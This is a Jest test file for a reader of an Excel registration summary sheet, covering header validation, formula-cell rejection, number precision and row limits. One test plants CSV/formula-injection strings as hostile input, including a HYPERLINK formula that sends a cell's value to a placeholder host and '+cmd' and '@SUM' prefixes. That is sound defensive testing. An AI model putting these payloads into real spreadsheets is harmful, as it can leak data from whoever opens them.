import { randomBytes } from 'node:crypto';
import type * as ExcelJS from 'exceljs';
import type { SummaryRow } from '../../registrations/domain/summary-row';
import {
  LEVELS,
  ROUTES,
  SAMPLE_META,
  editFirstSheet,
  headerRows,
  sampleRow,
} from '../../../../test/fixtures/xlsx/summary/summary-fixtures';
import { workbookBuffer } from '../../../../test/fixtures/xlsx/workbook-builder';
import type { SummaryField } from './summary-columns';
import { readSummarySheet } from './summary-sheet-reader';
import { writeSummaryTemplate } from './summary-template';
import { writeSummaryWorkbook } from './summary-workbook';

const EXTRA_FIELDS = [
  'route',
  'confirmed',
  'professionalTitle',
  'yearsInOccupation',
  'nationalCertLevel',
  'nationalCertNumber',
  'nationalCertVerification',
] as const;

/** What the reader should return for a row written by writeSummaryWorkbook. */
function expectedValues(row: SummaryRow): Record<SummaryField, string | null> {
  const extras = Object.fromEntries(EXTRA_FIELDS.map((key) => [key, null]));
  return { ...row, seq: String(row.seq), ...extras } as Record<SummaryField, string | null>;
}

/** A hand-made 附件2 sheet: `lines` above the two header rows, then `data`. */
function handMade(lines: unknown[][], data: unknown[][], merges = true): Promise<Buffer> {
  return workbookBuffer((workbook) => {
    const sheet = workbook.addWorksheet('Sheet1');
    [...lines, ...headerRows(), ...data].forEach((values, i) => {
      sheet.getRow(i + 1).values = values as ExcelJS.CellValue[];
    });
    const h = lines.length + 1;
    if (merges) {
      'ABCDEFG'.split('').forEach((c) => sheet.mergeCells(`${c}${h}:${c}${h + 1}`));
      sheet.mergeCells(`H${h}:J${h}`);
      sheet.mergeCells(`K${h}:L${h}`);
    }
  });
}

const DATA_ROW = ['1', '张三', '男', '1985-03', '21020219850307123X', '高中', '2005-07-01'];

describe('readSummarySheet', () => {
  it('reads back a 附件2 written by writeSummaryWorkbook, hostile texts included', async () => {
    const rows = [
      sampleRow(),
      sampleRow({
        seq: 2,
        name: '李梅',
        gender: '女',
        currentOccupation: null,
        currentLevel: null,
        currentCertDate: null,
        targetLevel: '中级工',
      }),
      sampleRow({
        seq: 3,
        name: '=HYPERLINK("http://x/?"&B2,"点我")',
        education: '@SUM(1+1)',
        currentCertDate: '-',
        targetOccupation: '+cmd',
      }),
    ];
    const buffer = await writeSummaryWorkbook(rows, SAMPLE_META);
    await expect(readSummarySheet(buffer)).resolves.toEqual({
      meta: { departmentName: '大连市教育局', filler: '李四', phone: '0411-82345678' },
      rows: rows.map((row, i) => ({ row: 7 + i, values: expectedValues(row) })),
      errors: [],
    });
  });

  it('reads back the template once a user has filled it, extras included', async () => {
    const template = await writeSummaryTemplate(
      { departmentName: '大连市教育局', filler: '王五' },
      { levels: LEVELS, routes: ROUTES },
    );
    const extras = ['正常晋升', '是', '', '6', '高级工', 'S2102000012345', '已核查有效'];
    const filled = await editFirstSheet(template, (sheet) => {
      sheet.getRow(7).values = [
        ...DATA_ROW,
        '汽车驾驶员',
        '高级工',
        '2015-06-30',
        '汽车驾驶员',
        '技师',
        ...extras,
      ];
      sheet.getRow(9).values = [
        '2',
        '赵六',
        '女',
        '1990-01',
        '210202199001011234',
        '大专',
        '2012-03-01',
        null,
        null,
        null,
        '收银员',
        '中级工',
        '退役士兵',
      ];
    });
    const result = await readSummarySheet(filled);
    expect(result.meta).toEqual({ departmentName: '大连市教育局', filler: '王五' });
    expect(result.errors).toEqual([]);
    expect(result.rows.map((row) => row.row)).toEqual([7, 9]);
    expect(result.rows[0].values).toMatchObject({
      idNumber: '21020219850307123X',
      currentCertDate: '2015-06-30',
      targetLevel: '技师',
      route: '正常晋升',
      confirmed: '是',
      professionalTitle: null,
      yearsInOccupation: '6',
      nationalCertLevel: '高级工',
      nationalCertNumber: 'S2102000012345',
      nationalCertVerification: '已核查有效',
    });
    expect(result.rows[1].values).toMatchObject({
      currentLevel: null,
      route: '退役士兵',
      confirmed: null,
    });
  });

  it('works without the title lines and with the header shifted down', async () => {
    const data = [[...DATA_ROW, null, null, null, '汽车驾驶员', '初级工']];
    const bare = await handMade([], data);
    await expect(readSummarySheet(bare)).resolves.toMatchObject({
      meta: {},
      rows: [{ row: 3, values: { name: '张三', targetLevel: '初级工', route: null } }],
    });
    const shifted = await handMade(
      [
        [],
        ['附件2'],
        ['申报汇总表'],
        ['主管部门：', '大连市公安局', '(盖章)'],
        [],
        ['填报人：赵六    联系电话：13800000000'],
      ],
      data,
      false,
    );
    await expect(readSummarySheet(shifted)).resolves.toMatchObject({
      meta: { departmentName: '大连市公安局', filler: '赵六', phone: '13800000000' },
      rows: [{ row: 9, values: { name: '张三' } }],
    });
  });

  it('leaves out meta entries that are blank', async () => {
    const buffer = await writeSummaryWorkbook([sampleRow()], { title: 'T', departmentName: '' });
    await expect(readSummarySheet(buffer)).resolves.toMatchObject({ meta: {} });
  });

  it('skips blank rows, reads hidden rows and converts numbers and dates to text', async () => {
    const buffer = await editFirstSheet(
      await writeSummaryWorkbook([sampleRow()], SAMPLE_META),
      (sheet) => {
        sheet.getRow(9).values = ['  ', null, '   '];
        sheet.getRow(10).values = [
          2,
          '  隐藏 行 ',
          '女',
          new Date(Date.UTC(1990, 0, 1)),
          '210202199001011234',
        ];
        sheet.getRow(10).hidden = true;
        // A date pasted from elsewhere brings its own date format.
        sheet.getCell('D10').numFmt = 'yyyy-mm-dd';
      },
    );
    const { rows, errors } = await readSummarySheet(buffer);
    expect(errors).toEqual([]);
    expect(rows.map((row) => row.row)).toEqual([7, 10]);
    expect(rows[1].values).toMatchObject({ seq: '2', name: '隐藏 行', birthMonth: '1990-01-01' });
  });

  // Checklist row 26.
  it('reports a formula cell and never uses its cached result', async () => {
    const buffer = await editFirstSheet(
      await writeSummaryWorkbook([sampleRow()], SAMPLE_META),
      (sheet) => {
        sheet.getCell('E7').value = { formula: '"2102"&"02"', result: '21020219850307123X' };
        sheet.getCell('J7').value = { formula: 'TODAY()', result: new Date() };
      },
    );
    const { rows, errors } = await readSummarySheet(buffer);
    expect(rows[0].values).toMatchObject({ idNumber: null, currentCertDate: null, name: '张三' });
    expect(errors).toEqual([
      {
        row: 7,
        column: '身份证号',
        code: 'CELL_FORMULA',
        message: '公式单元格不允许，请粘贴为数值',
      },
      {
        row: 7,
        column: '现职业等级情况/获证时间',
        code: 'CELL_FORMULA',
        message: '公式单元格不允许，请粘贴为数值',
      },
    ]);
  });

  it('reports an ID typed as a number as lost precision', async () => {
    const buffer = await editFirstSheet(
      await writeSummaryWorkbook([sampleRow()], SAMPLE_META),
      (sheet) => {
        sheet.getCell('E7').value = Number('210202198503071234');
      },
    );
    const { rows, errors } = await readSummarySheet(buffer);
    expect(rows[0].values.idNumber).toBeNull();
    expect(errors).toEqual([
      { row: 7, column: '身份证号', code: 'CELL_NUMBER_PRECISION', message: expect.any(String) },
    ]);
  });

  it.each([
    ['a renamed column', 'E5', '身份证号码', [{ row: 5, column: 'E' }]],
    ['a renamed sub-column', 'J6', '取证时间', [{ row: 6, column: 'J' }]],
    ['an unexpected column', 'T5', '备注', [{ row: 5, column: 'T' }]],
    [
      'a partial set of extras',
      'M6',
      '申报途径',
      [{ row: 5, column: 'M' }, ...'NOPQRS'.split('').map((column) => ({ row: 6, column }))],
    ],
  ])('rejects %s with XLSX_TEMPLATE_MISMATCH', async (_label, address, text, details) => {
    const buffer = await editFirstSheet(
      await writeSummaryWorkbook([sampleRow()], SAMPLE_META),
      (sheet) => {
        sheet.getCell(address).value = text;
      },
    );
    await expect(readSummarySheet(buffer)).rejects.toMatchObject({
      kind: 'unprocessable',
      code: 'XLSX_TEMPLATE_MISMATCH',
      message: expect.stringContaining(
        '应为：序号、姓名、性别、出生年月、身份证号、文化程度、参加工作时间、现职业等级情况（职种、等级、获证时间）、申报职业等级情况（职种、等级）',
      ),
      details: details.map((detail) =>
        expect.objectContaining({ code: 'HEADER_MISMATCH', ...detail }),
      ),
    });
  });

  it('names expected and actual text in the detail', async () => {
    const buffer = await editFirstSheet(await writeSummaryWorkbook([], SAMPLE_META), (sheet) => {
      sheet.getCell('E5').value = '身份证';
    });
    await expect(readSummarySheet(buffer)).rejects.toMatchObject({
      details: [{ message: 'E5 单元格应为“身份证号”，实为“身份证”' }],
    });
  });

  it('rejects a file without the 序号/姓名 header', async () => {
    const buffer = await workbookBuffer((workbook) => {
      workbook.addWorksheet('单位').addRow(['姓名', '身份证号']);
    });
    await expect(readSummarySheet(buffer)).rejects.toMatchObject({
      kind: 'unprocessable',
      code: 'XLSX_TEMPLATE_MISMATCH',
      message: expect.stringContaining('可选补充列：申报途径、是否已转正'),
    });
  });

  it('tolerates full-width text and stray spaces in the header', async () => {
    const buffer = await editFirstSheet(
      await writeSummaryWorkbook([sampleRow()], SAMPLE_META),
      (sheet) => {
        sheet.getCell('G5').value = '参加工作\n时间';
        sheet.getCell('B5').value = ' 姓　名 ';
      },
    );
    await expect(readSummarySheet(buffer)).resolves.toMatchObject({ rows: [{ row: 7 }] });
  });

  it('refuses more non-blank rows than maxRows', async () => {
    const rows = [1, 2, 3].map((seq) => sampleRow({ seq }));
    const buffer = await writeSummaryWorkbook(rows, SAMPLE_META);
    await expect(readSummarySheet(buffer, { maxRows: 3 })).resolves.toMatchObject({
      rows: [{ row: 7 }, { row: 8 }, { row: 9 }],
    });
    await expect(readSummarySheet(buffer, { maxRows: 2 })).rejects.toMatchObject({
      kind: 'payload-too-large',
      code: 'XLSX_TOO_MANY_ROWS',
      message: '数据行数超过上限 2 行',
    });
  });

  it('runs the archive guard before parsing', async () => {
    await expect(readSummarySheet(randomBytes(512))).rejects.toMatchObject({
      code: 'XLSX_INVALID',
    });
  });
});
